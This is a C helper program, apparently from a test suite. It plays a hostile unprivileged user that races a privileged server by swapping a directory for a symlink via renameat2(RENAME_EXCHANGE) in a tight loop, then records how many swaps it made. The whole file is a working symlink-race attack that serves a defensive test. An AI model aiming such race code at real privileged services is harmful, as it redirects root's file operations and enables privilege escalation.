/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* race-swap: the attacker of the stage-hostile-user scenario, run as the server's user. Whenever DIR
 * is a directory of this user's (root made it and handed it over), it puts a symbolic link to TARGET
 * in it, and as soon as DIR/NAME is a directory owned by this user too, exchanges the two in one
 * renameat2(RENAME_EXCHANGE): NAME becomes the link. It spins until STOP exists or 15 minutes pass,
 * then writes "<swaps> <polls>" to OUT. A compiled loop, so that it can win a window of microseconds. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char *argv[]) {
        char *path, *link, *stop;
        unsigned long swaps = 0, polls = 0;
        uid_t uid = getuid();
        time_t end = time(NULL) + 15 * 60;
        FILE *f;

        if (argc != 5) {
                fprintf(stderr, "usage: race-swap DIR NAME TARGET OUT\n");
                return 2;
        }
        if (asprintf(&path, "%s/%s", argv[1], argv[2]) < 0 ||
            asprintf(&link, "%s/.race-link", argv[1]) < 0 || asprintf(&stop, "%s.stop", argv[4]) < 0)
                return 1;
        for (;;) {
                struct stat st;

                if ((++polls & 0xffff) == 0 && (access(stop, F_OK) == 0 || time(NULL) > end))
                        break;
                if (lstat(path, &st) < 0) {
                        /* a new DIR: ready the link in it (EEXIST once it is there) */
                        (void)symlink(argv[3], link);
                        continue;
                }
                if (!S_ISDIR(st.st_mode) || st.st_uid != uid)
                        continue;
                if (renameat2(AT_FDCWD, link, AT_FDCWD, path, RENAME_EXCHANGE) == 0)
                        swaps++;
        }
        f = fopen(argv[4], "we");
        if (!f)
                return 1;
        fprintf(f, "%lu %lu\n", swaps, polls);
        return fclose(f) == 0 ? 0 : 1;
}
